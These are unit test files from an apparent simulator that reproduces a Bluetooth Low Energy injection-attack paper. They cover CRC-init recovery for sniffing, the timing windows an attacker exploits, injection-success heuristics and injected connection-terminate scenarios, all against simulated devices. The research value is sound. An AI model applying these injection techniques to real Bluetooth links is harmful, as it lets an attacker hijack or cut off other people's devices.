        code = main(["lint", "--root", str(tree), "--no-flow-cache",
                     "--baseline", str(baseline_path), "--prune-baseline"])
        capsys.readouterr()
        assert code == 0
        assert baseline_path.read_text() == before

    def test_prune_requires_a_baseline_file(self, tmp_path, monkeypatch,
                                            capsys):
        # Sever both conventional baseline fallbacks (cwd and the repo
        # root) so no baseline resolves at all.
        import repro.lintkit as lintkit

        tree = self._tree_with_finding(tmp_path)
        monkeypatch.chdir(tmp_path)
        monkeypatch.setattr(lintkit, "default_package_root",
                            lambda: tmp_path / "src" / "repro")
        code = main(["lint", "--root", str(tree), "--no-flow-cache",
                     "--prune-baseline"])
        assert code == 2
        assert "baseline" in capsys.readouterr().err

    def test_prune_baseline_function_needs_backing_file(self):
        from repro.lintkit import Baseline, prune_baseline

        with pytest.raises(ValueError):
            prune_baseline(Baseline(entries={}), ["deadbeefdeadbeef"])

    def test_stale_entry_survives_without_prune_flag(self, tmp_path,
                                                     capsys):
        tree = self._tree_with_finding(tmp_path)
        baseline_path = tmp_path / "baseline.json"
        report = run_lint(tree)
        save_baseline(baseline_path, report.findings, reason="reviewed")
        doc = json.loads(baseline_path.read_text())
        doc["entries"]["deadbeefdeadbeef"] = {
            "checker": "magic-number", "path": "gone.py",
            "snippet": "fixed long ago", "reason": "stale",
        }
        baseline_path.write_text(json.dumps(doc))
        code = main(["lint", "--root", str(tree), "--no-flow-cache",
                     "--baseline", str(baseline_path)])
        capsys.readouterr()
        assert code == 0
        survivor = load_baseline(baseline_path)
        assert "deadbeefdeadbeef" in survivor.entries
