"""Unit tests for RadioFrame."""

import pytest

from repro.errors import MediumError
from repro.phy.modulation import PhyMode
from repro.phy.signal import RadioFrame


def frame(start=0.0, pdu_len=14, channel=5, aa=0x12345678):
    return RadioFrame(access_address=aa, pdu=bytes(pdu_len), crc=0,
                      channel=channel, start_us=start, tx_power_dbm=0.0)


class TestRadioFrame:
    def test_duration_matches_air_time(self):
        # 14-byte PDU = 22-byte frame = 176 µs at LE 1M.
        assert frame().duration_us == pytest.approx(176.0)

    def test_end_time(self):
        f = frame(start=100.0)
        assert f.end_us == pytest.approx(276.0)

    def test_unique_frame_ids(self):
        assert frame().frame_id != frame().frame_id

    def test_overlap_same_channel(self):
        a = frame(start=0.0)
        b = frame(start=100.0)
        assert a.overlaps(b) and b.overlaps(a)

    def test_no_overlap_when_disjoint(self):
        a = frame(start=0.0)
        b = frame(start=500.0)
        assert not a.overlaps(b)

    def test_no_overlap_across_channels(self):
        a = frame(start=0.0, channel=1)
        b = frame(start=0.0, channel=2)
        assert not a.overlaps(b)

    def test_touching_frames_do_not_overlap(self):
        a = frame(start=0.0)
        b = frame(start=a.duration_us)
        assert not a.overlaps(b)

    def test_copy_for_receiver_is_independent(self):
        a = frame()
        copy = a.copy_for_receiver()
        copy.corrupted = True
        assert not a.corrupted
        assert copy.frame_id == a.frame_id

    def test_le2m_duration_shorter(self):
        f2 = RadioFrame(access_address=1 << 20, pdu=bytes(14), crc=0,
                        channel=0, start_us=0.0, tx_power_dbm=0.0,
                        phy=PhyMode.LE_2M)
        assert f2.duration_us < frame().duration_us

    def test_invalid_aa_rejected(self):
        with pytest.raises(MediumError):
            frame(aa=1 << 32)

    def test_invalid_channel_rejected(self):
        with pytest.raises(MediumError):
            frame(channel=40)
