"""Unit tests for the BLE channel plan."""

import pytest

from repro.errors import ConfigurationError
from repro.phy.channels import (
    ADVERTISING_CHANNELS,
    DATA_CHANNELS,
    NUM_CHANNELS,
    Channel,
    channel_to_frequency_mhz,
    frequency_mhz_to_channel,
)


class TestChannelPlan:
    def test_forty_channels(self):
        assert NUM_CHANNELS == 40
        assert len(DATA_CHANNELS) == 37
        assert len(ADVERTISING_CHANNELS) == 3

    def test_advertising_channel_frequencies(self):
        # The three advertising channels dodge Wi-Fi 1/6/11.
        assert channel_to_frequency_mhz(37) == 2402
        assert channel_to_frequency_mhz(38) == 2426
        assert channel_to_frequency_mhz(39) == 2480

    def test_data_channel_0(self):
        assert channel_to_frequency_mhz(0) == 2404

    def test_data_channel_10_and_11_straddle_ch38(self):
        assert channel_to_frequency_mhz(10) == 2424
        assert channel_to_frequency_mhz(11) == 2428

    def test_data_channel_36(self):
        assert channel_to_frequency_mhz(36) == 2478

    def test_all_frequencies_unique(self):
        freqs = [channel_to_frequency_mhz(i) for i in range(40)]
        assert len(set(freqs)) == 40

    def test_all_frequencies_in_ism_band(self):
        for i in range(40):
            assert 2402 <= channel_to_frequency_mhz(i) <= 2480

    def test_inverse_mapping(self):
        for i in range(40):
            assert frequency_mhz_to_channel(channel_to_frequency_mhz(i)) == i

    def test_invalid_index_rejected(self):
        with pytest.raises(ConfigurationError):
            channel_to_frequency_mhz(40)

    def test_invalid_frequency_rejected(self):
        with pytest.raises(ConfigurationError):
            frequency_mhz_to_channel(2403)


class TestChannelObject:
    def test_advertising_flag(self):
        assert Channel(37).is_advertising
        assert not Channel(0).is_advertising

    def test_data_flag(self):
        assert Channel(5).is_data

    def test_whitening_init_has_bit6_set(self):
        for i in range(40):
            init = Channel(i).whitening_init()
            assert init & 0x40
            assert init & 0x3F == i

    def test_int_conversion(self):
        assert int(Channel(12)) == 12

    def test_out_of_range_rejected(self):
        with pytest.raises(ConfigurationError):
            Channel(-1)
