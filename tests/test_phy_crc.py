"""Unit tests for BLE CRC-24 and its reversal."""

import random

import pytest

from repro.errors import CodecError
from repro.phy.crc import (
    ADVERTISING_CRC_INIT,
    crc24,
    crc24_check,
    crc24_init_from_bytes,
    reverse_crc24_init,
)


class TestCrc24:
    def test_deterministic(self):
        assert crc24(b"hello", 0x123456) == crc24(b"hello", 0x123456)

    def test_always_24_bits(self):
        rng = random.Random(5)
        for _ in range(50):
            data = bytes(rng.randrange(256) for _ in range(rng.randrange(60)))
            assert 0 <= crc24(data, rng.randrange(1 << 24)) < 1 << 24

    def test_sensitive_to_single_bit_flip(self):
        data = bytearray(b"\x01\x02\x03\x04")
        reference = crc24(bytes(data), 0x555555)
        data[2] ^= 0x10
        assert crc24(bytes(data), 0x555555) != reference

    def test_sensitive_to_init(self):
        assert crc24(b"abc", 0x000001) != crc24(b"abc", 0x000002)

    def test_check_accepts_matching(self):
        value = crc24(b"payload", ADVERTISING_CRC_INIT)
        assert crc24_check(b"payload", value, ADVERTISING_CRC_INIT)

    def test_check_rejects_mismatch(self):
        value = crc24(b"payload", ADVERTISING_CRC_INIT)
        assert not crc24_check(b"payload!", value, ADVERTISING_CRC_INIT)

    def test_empty_data_returns_init(self):
        assert crc24(b"", 0xABCDEF) == 0xABCDEF

    def test_invalid_init_rejected(self):
        with pytest.raises(CodecError):
            crc24(b"x", 1 << 24)


class TestCrcInitField:
    def test_little_endian_decode(self):
        assert crc24_init_from_bytes(b"\x56\x34\x12") == 0x123456

    def test_wrong_length_rejected(self):
        with pytest.raises(CodecError):
            crc24_init_from_bytes(b"\x01\x02")


class TestReverseCrc:
    def test_recovers_init_exactly(self):
        """The sniffer's CRCInit recovery (Ryan 2013) must be exact."""
        rng = random.Random(11)
        for _ in range(100):
            data = bytes(rng.randrange(256)
                         for _ in range(rng.randrange(1, 50)))
            init = rng.randrange(1 << 24)
            assert reverse_crc24_init(data, crc24(data, init)) == init

    def test_empty_data(self):
        assert reverse_crc24_init(b"", 0x424242) == 0x424242

    def test_consistent_across_frames(self):
        # Two frames of one connection reverse to the same CRCInit.
        init = 0x9A8B7C
        a, b = b"frame-one", b"frame-two!"
        assert reverse_crc24_init(a, crc24(a, init)) == \
            reverse_crc24_init(b, crc24(b, init))

    def test_invalid_value_rejected(self):
        with pytest.raises(CodecError):
            reverse_crc24_init(b"x", 1 << 24)
