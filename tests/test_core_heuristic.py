"""Unit tests for the success-detection heuristic (paper formula 7)."""

import pytest

from repro.core.heuristic import (
    TIMING_TOLERANCE_US,
    HeuristicInputs,
    evaluate_heuristic,
)


def obs(**overrides):
    fields = dict(t_a=1000.0, d_a=176.0, sn_a=0, nesn_a=1,
                  t_s=1000.0 + 176.0 + 150.0, sn_s=1, nesn_s=1)
    fields.update(overrides)
    return HeuristicInputs(**fields)


class TestFormula7:
    def test_textbook_success(self):
        verdict = evaluate_heuristic(obs())
        assert verdict.success and verdict.timing_ok and verdict.ack_ok

    def test_tolerance_is_5us(self):
        assert TIMING_TOLERANCE_US == 5.0

    def test_timing_window_bounds(self):
        base = 1000.0 + 176.0 + 150.0
        assert evaluate_heuristic(obs(t_s=base + 4.9)).timing_ok
        assert evaluate_heuristic(obs(t_s=base - 4.9)).timing_ok
        assert not evaluate_heuristic(obs(t_s=base + 5.1)).timing_ok
        assert not evaluate_heuristic(obs(t_s=base - 5.1)).timing_ok

    def test_master_won_race_fails_timing(self):
        # Slave anchored on the Master frame: response far from expected.
        verdict = evaluate_heuristic(obs(t_s=1000.0 + 176.0 + 150.0 + 80.0))
        assert not verdict.timing_ok and not verdict.success

    def test_ack_condition_nesn(self):
        # NESN'_s must equal (SN_a + 1) mod 2.
        verdict = evaluate_heuristic(obs(sn_a=0, nesn_s=0))
        assert not verdict.ack_ok

    def test_ack_condition_sn(self):
        # SN'_s must equal NESN_a.
        verdict = evaluate_heuristic(obs(nesn_a=1, sn_s=0))
        assert not verdict.ack_ok

    def test_crc_corruption_signature(self):
        """Collision-corrupted injection: Slave re-anchors (timing OK) but
        does not advance NESN (ack fails) — situation b of Fig. 5."""
        verdict = evaluate_heuristic(obs(sn_a=0, nesn_s=0))
        assert verdict.timing_ok and not verdict.ack_ok and \
            not verdict.success

    def test_no_response_at_all(self):
        verdict = evaluate_heuristic(obs(t_s=None))
        assert not verdict.response_seen and not verdict.success

    def test_undecodable_response(self):
        verdict = evaluate_heuristic(obs(sn_s=None, nesn_s=None))
        assert verdict.response_seen
        assert not verdict.ack_ok and not verdict.success

    def test_all_bit_combinations_exhaustive(self):
        for sn_a in (0, 1):
            for nesn_a in (0, 1):
                expected_nesn_s = (sn_a + 1) % 2
                expected_sn_s = nesn_a
                verdict = evaluate_heuristic(obs(
                    sn_a=sn_a, nesn_a=nesn_a,
                    sn_s=expected_sn_s, nesn_s=expected_nesn_s))
                assert verdict.success
                verdict_bad = evaluate_heuristic(obs(
                    sn_a=sn_a, nesn_a=nesn_a,
                    sn_s=expected_sn_s ^ 1, nesn_s=expected_nesn_s))
                assert not verdict_bad.success
