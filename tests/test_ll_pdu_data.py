"""Unit tests for data-channel PDU codecs."""

import pytest

from repro.errors import CodecError
from repro.ll.pdu.data import LLID, DataHeader, DataPdu


class TestDataHeader:
    def test_round_trip(self):
        header = DataHeader(LLID.DATA_START, nesn=1, sn=0, md=1, length=12)
        assert DataHeader.from_bytes(header.to_bytes()) == header

    def test_bit_layout(self):
        header = DataHeader(LLID.CONTROL, nesn=1, sn=1, md=0, length=5)
        byte0 = header.to_bytes()[0]
        assert byte0 & 0b11 == 0b11      # LLID
        assert (byte0 >> 2) & 1 == 1     # NESN
        assert (byte0 >> 3) & 1 == 1     # SN
        assert (byte0 >> 4) & 1 == 0     # MD

    def test_length_byte(self):
        header = DataHeader(LLID.DATA_START, length=200)
        assert header.to_bytes()[1] == 200

    def test_reserved_llid_rejected(self):
        with pytest.raises(CodecError):
            DataHeader.from_bytes(b"\x00\x00")

    def test_invalid_bits_rejected(self):
        with pytest.raises(CodecError):
            DataHeader(LLID.DATA_START, nesn=2)

    def test_length_out_of_range_rejected(self):
        with pytest.raises(CodecError):
            DataHeader(LLID.DATA_START, length=300)

    def test_short_buffer_rejected(self):
        with pytest.raises(CodecError):
            DataHeader.from_bytes(b"\x01")


class TestDataPdu:
    def test_round_trip(self):
        pdu = DataPdu.make(LLID.DATA_START, b"hello", sn=1, nesn=0)
        assert DataPdu.from_bytes(pdu.to_bytes()) == pdu

    def test_empty_pdu(self):
        pdu = DataPdu.empty(sn=1, nesn=1)
        assert pdu.is_empty
        assert pdu.to_bytes() == bytes([0b0000_1101, 0])

    def test_empty_detection_needs_continuation_llid(self):
        pdu = DataPdu.make(LLID.DATA_START, b"")
        assert not pdu.is_empty

    def test_control_flag(self):
        assert DataPdu.make(LLID.CONTROL, b"\x02\x13").is_control
        assert not DataPdu.make(LLID.DATA_START, b"x").is_control

    def test_header_length_must_match_payload(self):
        with pytest.raises(CodecError):
            DataPdu(DataHeader(LLID.DATA_START, length=4), b"xy")

    def test_truncated_buffer_rejected(self):
        pdu_bytes = DataPdu.make(LLID.DATA_START, b"abcdef").to_bytes()
        with pytest.raises(CodecError):
            DataPdu.from_bytes(pdu_bytes[:-2])

    def test_trailing_bytes_rejected(self):
        pdu_bytes = DataPdu.make(LLID.DATA_START, b"abc").to_bytes()
        with pytest.raises(CodecError):
            DataPdu.from_bytes(pdu_bytes + b"\x00")

    def test_with_bits_rewrites_only_bits(self):
        pdu = DataPdu.make(LLID.DATA_START, b"data", sn=0, nesn=0, md=1)
        rewritten = pdu.with_bits(sn=1, nesn=1)
        assert rewritten.payload == pdu.payload
        assert rewritten.header.md == 1
        assert rewritten.header.sn == 1 and rewritten.header.nesn == 1
