"""Unit tests for access-address rules."""

import numpy as np
import pytest

from repro.ll.access_address import (
    ADVERTISING_ACCESS_ADDRESS,
    generate_access_address,
    is_valid_access_address,
)


class TestValidation:
    def test_advertising_aa_is_invalid_for_data(self):
        assert not is_valid_access_address(ADVERTISING_ACCESS_ADDRESS)

    def test_one_bit_from_advertising_invalid(self):
        for bit in range(32):
            assert not is_valid_access_address(
                ADVERTISING_ACCESS_ADDRESS ^ (1 << bit))

    def test_long_runs_invalid(self):
        assert not is_valid_access_address(0x0000_00FF)  # >6 equal bits
        assert not is_valid_access_address(0xFFFF_FFFF)

    def test_four_equal_bytes_invalid(self):
        assert not is_valid_access_address(0xA5A5A5A5)

    def test_known_good_address(self):
        # Alternating nibble patterns satisfy every rule.
        assert is_valid_access_address(0x9B3D4C56)

    def test_out_of_range(self):
        assert not is_valid_access_address(1 << 32)
        assert not is_valid_access_address(-1)


class TestGeneration:
    def test_generated_addresses_valid(self):
        rng = np.random.default_rng(3)
        for _ in range(100):
            assert is_valid_access_address(generate_access_address(rng))

    def test_deterministic_under_seed(self):
        a = generate_access_address(np.random.default_rng(5))
        b = generate_access_address(np.random.default_rng(5))
        assert a == b

    def test_distinct_draws(self):
        rng = np.random.default_rng(6)
        draws = {generate_access_address(rng) for _ in range(20)}
        assert len(draws) == 20
