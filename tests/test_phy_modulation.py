"""Unit tests for PHY modes and air-time arithmetic."""

import pytest

from repro.errors import ConfigurationError
from repro.phy.modulation import PhyMode, air_time_us, frame_length_bytes


class TestFrameLength:
    def test_paper_22_byte_frame(self):
        # Paper §VII-A: a 14-byte PDU is a 22-byte over-the-air frame.
        assert frame_length_bytes(14, PhyMode.LE_1M) == 22

    def test_empty_pdu(self):
        # Empty data PDU: preamble + AA + 2-byte header + CRC = 10 bytes.
        assert frame_length_bytes(2, PhyMode.LE_1M) == 10

    def test_le2m_has_longer_preamble(self):
        assert frame_length_bytes(0, PhyMode.LE_2M) == \
            frame_length_bytes(0, PhyMode.LE_1M) + 1

    def test_negative_rejected(self):
        with pytest.raises(ConfigurationError):
            frame_length_bytes(-1)


class TestAirTime:
    def test_paper_176_us(self):
        # Paper §VII-A: the 22-byte frame takes 176 µs at LE 1M.
        assert air_time_us(14, PhyMode.LE_1M) == pytest.approx(176.0)

    def test_le2m_is_twice_as_fast(self):
        t1 = air_time_us(20, PhyMode.LE_1M)
        t2 = air_time_us(20, PhyMode.LE_2M)
        # LE 2M: double bit rate, one extra preamble byte.
        assert t2 == pytest.approx((frame_length_bytes(20, PhyMode.LE_2M)) * 4.0)
        assert t2 < t1

    def test_coded_is_slower(self):
        assert air_time_us(10, PhyMode.LE_CODED_S8) > \
            air_time_us(10, PhyMode.LE_1M)

    def test_monotone_in_pdu_length(self):
        times = [air_time_us(n) for n in range(0, 50)]
        assert times == sorted(times)


class TestPhyMode:
    def test_bit_rates(self):
        assert PhyMode.LE_1M.bits_per_second == 1_000_000
        assert PhyMode.LE_2M.bits_per_second == 2_000_000
        assert PhyMode.LE_CODED_S2.bits_per_second == 500_000
        assert PhyMode.LE_CODED_S8.bits_per_second == 125_000

    def test_us_per_byte(self):
        assert PhyMode.LE_1M.us_per_byte == 8.0
        assert PhyMode.LE_2M.us_per_byte == 4.0
