"""Unit tests for the host-stack glue (L2CAP routing, pairing wiring)."""

import pytest

from repro.devices import Lightbulb, Smartphone
from repro.host.l2cap import CID_ATT, CID_SMP, l2cap_encode
from repro.host.stack import CentralHost, PeripheralHost
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


@pytest.fixture
def world():
    sim = Simulator(seed=101)
    topo = Topology()
    topo.place("bulb", 0.0, 0.0)
    topo.place("phone", 2.0, 0.0)
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone")
    return sim, bulb, phone


class TestPeripheralHostRouting:
    def test_att_request_routed_to_gatt(self, world):
        sim, bulb, phone = world
        sent = []
        bulb.ll.send_data = sent.append  # intercept the LL queue
        request = l2cap_encode(CID_ATT, b"\x0a\x02\x00")  # Read handle 2
        bulb.host._on_l2cap(request)
        assert len(sent) == 1
        # Response is L2CAP-framed on the ATT channel.
        assert sent[0][2:4] == CID_ATT.to_bytes(2, "little")

    def test_smp_creates_responder_lazily(self, world):
        sim, bulb, phone = world
        assert bulb.host.smp is None
        bulb.ll.send_data = lambda data: None
        bulb.host._on_l2cap(l2cap_encode(CID_SMP, bytes(7)))
        assert bulb.host.smp is not None
        assert not bulb.host.smp.is_initiator

    def test_garbage_frame_ignored(self, world):
        sim, bulb, phone = world
        bulb.host._on_l2cap(b"\x01")  # must not raise

    def test_unknown_cid_ignored(self, world):
        sim, bulb, phone = world
        sent = []
        bulb.ll.send_data = sent.append
        bulb.host._on_l2cap(l2cap_encode(0x0040, b"whatever"))
        assert sent == []


class TestCentralHostRouting:
    def test_att_responses_reach_client(self, world):
        sim, bulb, phone = world
        got = []
        phone.host.att.read(5, got.append)
        phone.host._on_l2cap(l2cap_encode(CID_ATT, b"\x0b\x42"))
        assert got and got[0].value == b"\x42"

    def test_smp_ignored_until_pairing_started(self, world):
        sim, bulb, phone = world
        phone.host._on_l2cap(l2cap_encode(CID_SMP, bytes(7)))
        assert phone.host.smp is None

    def test_pairing_callback_without_encryption(self, world):
        sim, bulb, phone = world
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_000_000)
        stks = []
        phone.host.on_paired = stks.append
        bulb.host.on_paired = stks.append
        phone.host.pair(encrypt=False)
        sim.run(until_us=4_000_000)
        assert len(stks) == 2 and stks[0] == stks[1]
        assert phone.ll.encryption is None

    def test_slave_ltk_provisioned_by_pairing(self, world):
        sim, bulb, phone = world
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_000_000)
        phone.host.pair(encrypt=False)
        sim.run(until_us=4_000_000)
        assert bulb.ll.ltk is not None
        # The provisioned key can start encryption later.
        phone.ll.start_encryption(bulb.ll.ltk)
        sim.run(until_us=6_000_000)
        assert phone.ll.encryption is not None
        assert bulb.ll.encryption is not None
