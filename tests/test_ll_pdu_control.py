"""Unit tests for LL control PDU codecs."""

import pytest

from repro.errors import CodecError
from repro.ll.pdu.control import (
    ChannelMapInd,
    ClockAccuracyReq,
    ClockAccuracyRsp,
    ConnectionUpdateInd,
    ControlOpcode,
    EncReq,
    EncRsp,
    FeatureReq,
    FeatureRsp,
    PingReq,
    PingRsp,
    RejectInd,
    StartEncReq,
    StartEncRsp,
    TerminateInd,
    UnknownRsp,
    VersionInd,
    decode_control_pdu,
)

ALL_PDUS = [
    ConnectionUpdateInd(win_size=2, win_offset=3, interval=75, latency=0,
                        timeout=300, instant=1234),
    ChannelMapInd(channel_map=0x1F00FF00FF, instant=77),
    TerminateInd(error_code=0x13),
    EncReq(rand=0x0123456789ABCDEF, ediv=0xBEEF, skd_m=0x1122334455667788,
           iv_m=0xDEADBEEF),
    EncRsp(skd_s=0x99AABBCCDDEEFF00 >> 1, iv_s=0xCAFEBABE),
    StartEncReq(),
    StartEncRsp(),
    UnknownRsp(unknown_type=0x42),
    FeatureReq(features=0x1F),
    FeatureRsp(features=0x01),
    VersionInd(version=9, company=0x0059, subversion=0x1234),
    RejectInd(error_code=0x0C),
    PingReq(),
    PingRsp(),
    ClockAccuracyReq(sca=7),
    ClockAccuracyRsp(sca=5),
]


class TestRoundTrips:
    @pytest.mark.parametrize("pdu", ALL_PDUS, ids=lambda p: type(p).__name__)
    def test_round_trip(self, pdu):
        assert decode_control_pdu(pdu.to_payload()) == pdu

    @pytest.mark.parametrize("pdu", ALL_PDUS, ids=lambda p: type(p).__name__)
    def test_opcode_is_first_byte(self, pdu):
        assert pdu.to_payload()[0] == int(pdu.OPCODE)


class TestConnectionUpdate:
    def test_ctr_data_length(self):
        pdu = ConnectionUpdateInd(win_size=1, win_offset=0, interval=36,
                                  latency=0, timeout=100, instant=10)
        assert len(pdu.to_payload()) == 12  # opcode + 11 bytes (Fig. 2)

    def test_little_endian_instant(self):
        pdu = ConnectionUpdateInd(win_size=1, win_offset=0, interval=36,
                                  latency=0, timeout=100, instant=0x0201)
        assert pdu.to_payload()[-2:] == b"\x01\x02"

    def test_wrong_length_rejected(self):
        with pytest.raises(CodecError):
            decode_control_pdu(bytes([ControlOpcode.LL_CONNECTION_UPDATE_IND])
                               + bytes(10))


class TestChannelMapInd:
    def test_ctr_data_length(self):
        pdu = ChannelMapInd(channel_map=(1 << 37) - 1, instant=5)
        assert len(pdu.to_payload()) == 8  # opcode + 5 map + 2 instant

    def test_map_out_of_range_rejected(self):
        with pytest.raises(CodecError):
            ChannelMapInd(channel_map=1 << 37, instant=5).to_payload()


class TestTerminate:
    def test_default_error_code(self):
        # 0x13: remote user terminated — what Scenario B injects.
        assert TerminateInd().error_code == 0x13

    def test_payload_is_two_bytes(self):
        assert len(TerminateInd().to_payload()) == 2


class TestDecodeErrors:
    def test_empty_rejected(self):
        with pytest.raises(CodecError):
            decode_control_pdu(b"")

    def test_unknown_opcode_rejected(self):
        with pytest.raises(CodecError):
            decode_control_pdu(b"\xfe")

    def test_truncated_enc_req_rejected(self):
        with pytest.raises(CodecError):
            decode_control_pdu(bytes([ControlOpcode.LL_ENC_REQ]) + bytes(21))
