"""Unit tests for window widening and transmit windows — the formulas the
attack turns against the protocol (paper eq. 1, 4, 5)."""

import pytest

from repro.errors import LinkLayerError
from repro.ll.timing import (
    WINDOW_WIDENING_CONSTANT_US,
    WORST_CASE_SLAVE_SCA_PPM,
    Window,
    anchor_after,
    receive_window,
    transmit_window,
    window_widening_us,
)
from repro.utils.units import SLOT_US


class TestWindowWidening:
    def test_formula_5_hop_75(self):
        # (50+20)/1e6 * 93750 + 32 = 38.5625 µs.
        w = window_widening_us(50.0, 20.0, 75 * SLOT_US)
        assert w == pytest.approx(38.5625)

    def test_constant_term_is_32us(self):
        assert window_widening_us(0.0, 0.0, 100_000.0) == \
            WINDOW_WIDENING_CONSTANT_US

    def test_grows_with_interval(self):
        w1 = window_widening_us(50, 50, 25 * SLOT_US)
        w2 = window_widening_us(50, 50, 150 * SLOT_US)
        assert w2 > w1

    def test_grows_with_sca(self):
        assert window_widening_us(500, 500, 50_000) > \
            window_widening_us(20, 20, 50_000)

    def test_worst_case_slave_sca_is_20ppm(self):
        # Paper §V-C: attacker assumes 20 ppm (smallest window).
        assert WORST_CASE_SLAVE_SCA_PPM == 20.0
        w_worst = window_widening_us(50, WORST_CASE_SLAVE_SCA_PPM, 50_000)
        w_real = window_widening_us(50, 50, 50_000)
        assert w_worst < w_real

    def test_negative_inputs_rejected(self):
        with pytest.raises(LinkLayerError):
            window_widening_us(-1, 20, 1000)
        with pytest.raises(LinkLayerError):
            window_widening_us(50, 20, -1)


class TestReceiveWindow:
    def test_centred_on_prediction(self):
        window = receive_window(1_000_000.0, 50, 50, 45_000.0)
        w = window_widening_us(50, 50, 45_000.0)
        assert window.start_us == pytest.approx(1_000_000.0 - w)
        assert window.end_us == pytest.approx(1_000_000.0 + w)

    def test_contains_prediction(self):
        window = receive_window(500.0, 50, 50, 45_000.0)
        assert window.contains(500.0)


class TestTransmitWindow:
    def test_formula_1(self):
        # t_start = t_init + 1.25ms + WinOffset*1.25ms.
        window = transmit_window(10_000.0, win_offset_slots=2,
                                 win_size_slots=3)
        assert window.start_us == pytest.approx(10_000.0 + 1250.0 + 2500.0)
        assert window.duration_us == pytest.approx(3 * 1250.0)

    def test_zero_offset(self):
        window = transmit_window(0.0, 0, 1)
        assert window.start_us == 1250.0

    def test_invalid_win_size_rejected(self):
        with pytest.raises(LinkLayerError):
            transmit_window(0.0, 0, 0)
        with pytest.raises(LinkLayerError):
            transmit_window(0.0, 0, 9)

    def test_negative_offset_rejected(self):
        with pytest.raises(LinkLayerError):
            transmit_window(0.0, -1, 1)


class TestAnchorPrediction:
    def test_one_event_ahead(self):
        assert anchor_after(1000.0, 36) == 1000.0 + 36 * SLOT_US

    def test_multiple_events(self):
        assert anchor_after(0.0, 20, events=5) == 5 * 20 * SLOT_US

    def test_zero_events_is_identity(self):
        assert anchor_after(777.0, 36, events=0) == 777.0

    def test_invalid_interval_rejected(self):
        with pytest.raises(LinkLayerError):
            anchor_after(0.0, 0)


class TestWindowObject:
    def test_inverted_window_rejected(self):
        with pytest.raises(LinkLayerError):
            Window(10.0, 5.0)

    def test_contains_bounds_inclusive(self):
        window = Window(1.0, 2.0)
        assert window.contains(1.0) and window.contains(2.0)
        assert not window.contains(2.1)
