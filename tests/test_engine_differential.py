"""Differential tests: the fast engine must be indistinguishable.

The analytic fast-forward engine (:mod:`repro.sim.fastforward`) promises
*byte-identical traces* and *bit-identical results* against the reference
event-by-event path.  These tests hold it to that across a smoke panel of
all six experiment modules plus an adversarial world that forces the
engine to disengage mid-run and re-engage after the disturbance.

``run_both_engines`` is the reusable harness: give it a callable that
builds and runs a world for a named engine, and it asserts the two traces
serialize identically (after canonicalizing process-global frame ids).
"""

from __future__ import annotations

import pytest

from repro.experiments import (
    ablations,
    distance,
    hop_interval,
    payload_size,
    wall,
)
from repro.experiments.common import InjectionTrial, run_trial_world
from repro.experiments.scenarios import (
    ScenarioTrial,
    resolve_scenario,
    run_scenario_trial,
)
from repro.sim import fastforward

#: Trace detail keys whose values are process-global frame ids.
FRAME_ID_KEYS = ("frame_id", "locked_to")


def canonical_trace(sim) -> list:
    """The trace as comparable tuples, frame ids remapped in first-seen
    order (the global frame-id counter differs between runs)."""
    remap: dict = {}
    out = []
    for rec in sim.trace:
        detail = dict(rec.detail)
        for key in FRAME_ID_KEYS:
            if key in detail:
                detail[key] = remap.setdefault(detail[key], len(remap))
        out.append((repr(rec.time_us), rec.source, rec.kind,
                    tuple((k, repr(v)) for k, v in detail.items())))
    return out


def run_both_engines(build_and_run):
    """Run ``build_and_run(engine)`` for both engines; assert byte-identical
    traces.  Returns the two simulators for further assertions.

    ``build_and_run`` must construct a *fresh* world (same seed) and return
    its :class:`~repro.sim.simulator.Simulator` with tracing enabled.
    """
    sim_ref = build_and_run(fastforward.ENGINE_REFERENCE)
    sim_fast = build_and_run(fastforward.ENGINE_FAST)
    ref, fast = canonical_trace(sim_ref), canonical_trace(sim_fast)
    assert len(ref) == len(fast), (
        f"trace length diverged: reference={len(ref)} fast={len(fast)}")
    for i, (a, b) in enumerate(zip(ref, fast)):
        assert a == b, f"trace diverged at record {i}:\n ref: {a}\nfast: {b}"
    return sim_ref, sim_fast


def _first_trial(units) -> InjectionTrial:
    return units[0][1]


def _assert_trial_differential(trial: InjectionTrial) -> None:
    results = {}

    def build_and_run(engine):
        result, sim = run_trial_world(trial, engine=engine,
                                      trace_enabled=True)
        results[engine] = result
        return sim

    fastforward.reset_fast_forward_count()
    run_both_engines(build_and_run)
    assert results["reference"] == results["fast"]
    assert fastforward.events_fast_forwarded() > 0, (
        "fast engine never engaged — the differential test is vacuous")


class TestExperimentPanels:
    """One trial from each sweep module, reference vs fast."""

    def test_hop_interval(self):
        _assert_trial_differential(_first_trial(
            hop_interval.trial_units(n_connections=1)))

    def test_payload_size(self):
        # Skip the pdu_len=4 (LL_TERMINATE_IND) grid point: it tears the
        # connection down, so no quiet phase exists for the engine to
        # fast-forward and the engagement assertion would be vacuous.
        units = payload_size.trial_units(n_connections=1)
        trial = next(t for _, t in units if t.pdu_len >= 9)
        _assert_trial_differential(trial)

    def test_distance(self):
        _assert_trial_differential(_first_trial(
            distance.trial_units(n_connections=1)))

    def test_wall(self):
        _assert_trial_differential(_first_trial(
            wall.trial_units(n_connections=1)))

    def test_ablations(self):
        _assert_trial_differential(_first_trial(
            ablations.trial_units(n_connections=1)))

    @pytest.mark.parametrize("scenario", ["A", "B", "C", "D"])
    def test_scenarios(self, scenario, monkeypatch):
        trial = ScenarioTrial(seed=5, scenario=resolve_scenario(scenario),
                              device="lightbulb")
        monkeypatch.setenv(fastforward.ENGINE_ENV_VAR,
                           fastforward.ENGINE_REFERENCE)
        ref = run_scenario_trial(trial)
        monkeypatch.setenv(fastforward.ENGINE_ENV_VAR,
                           fastforward.ENGINE_FAST)
        fast = run_scenario_trial(trial)
        assert ref == fast


class TestAdversarialDisengage:
    """A foreign transmission mid-quiet-phase must not perturb anything."""

    @staticmethod
    def _build(engine, attacker_tx_at=None):
        from repro.devices.lightbulb import Lightbulb
        from repro.ll.master import MasterLinkLayer
        from repro.ll.pdu.address import BdAddress
        from repro.sim.fastforward import install_engine
        from repro.sim.medium import Medium
        from repro.sim.simulator import Simulator
        from repro.sim.topology import Topology
        from repro.sim.transceiver import Transceiver

        sim = Simulator(seed=11, trace_enabled=True)
        topo = Topology()
        topo.place("peripheral", 0.0, 0.0)
        topo.place("central", 2.0, 0.0)
